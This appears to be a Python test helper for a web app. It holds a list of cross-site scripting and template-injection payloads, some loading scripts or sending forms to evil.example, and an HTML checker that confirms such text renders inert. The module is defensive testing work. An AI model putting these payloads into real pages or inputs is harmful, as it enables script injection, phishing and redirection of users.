"""Texts that customers, names and notes may hold to attack a page, and what to look for in a page that shows them.

The kinds are common practice (markup, attributes, addresses, styles, templates, encodings); the texts are our own.
A page that shows a text from outside puts each of these there and calls `check_shown`.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

MARK = "zq7"
HOSTILE: tuple[str, ...] = (
    f"<script>alert('{MARK}')</script>",
    f"</p><script src=https://evil.example/{MARK}.js></script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f'"><svg onload=alert("{MARK}")>',
    f"' autofocus onfocus='alert(\"{MARK}\")",
    f'" onmouseover="alert(\'{MARK}\')" x="',
    f"`onclick=alert('{MARK}')",
    f"javascript:alert('{MARK}')",
    f"<a href=\"javascript:alert('{MARK}')\">tap here</a>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"</option></select><img src=x onerror=alert('{MARK}')>",
    f"--><script>alert('{MARK}')</script><!--",
    f"<style>@import 'https://evil.example/{MARK}'</style>",
    f"<base href=https://evil.example/{MARK}>",
    f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}">',
    f"<form action=https://evil.example/{MARK}><button>Confirm</button></form>",
    f"<math><mtext><script>alert('{MARK}')</script></mtext></math>",
    f"{{{{ '{MARK}' * 3 }}}}{{% raw %}}",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"\u202e{MARK}\u202c backwards",
    f"{MARK}\u2028line\u2029end",
    f"{MARK} " + "W" * 400,
    f"{MARK} é ñ ¿ 🔧 {'🌧' * 40}",
)
EVENTS = ("on",)
BARRED_TAGS = ("base", "iframe", "object", "embed", "math", "style")


class _Page(HTMLParser):
    """Collects what could act: scripts, handlers, inline styles, addresses, tags that pages of ours never have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one tag."""
        found = dict(attrs)
        if tag in BARRED_TAGS:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.faults.append("<script> that is not ours")
        for name, value in found.items():
            if name.startswith(EVENTS) or name in ("style", "srcdoc", "http-equiv"):
                self.faults.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction") and not _is_ours(value or ""):
                self.faults.append(f"<{tag} {name}={value}>")


def _is_ours(address: str) -> bool:
    parts = urlsplit(address.strip())
    return parts.scheme in ("", "tel", "mailto") and not parts.netloc


def faults(page: str) -> list[str]:
    """Everything in a page that could act and is not ours; empty when all is well."""
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser.faults


def check_shown(page: str, hostile: str) -> None:
    """The page shows the text (its mark is there) and nothing of it acts."""
    assert MARK in page, f"the page does not show {hostile!r}"
    assert not faults(page), (hostile, faults(page))
    assert "{{" not in hostile or f"{MARK}{MARK}" not in page
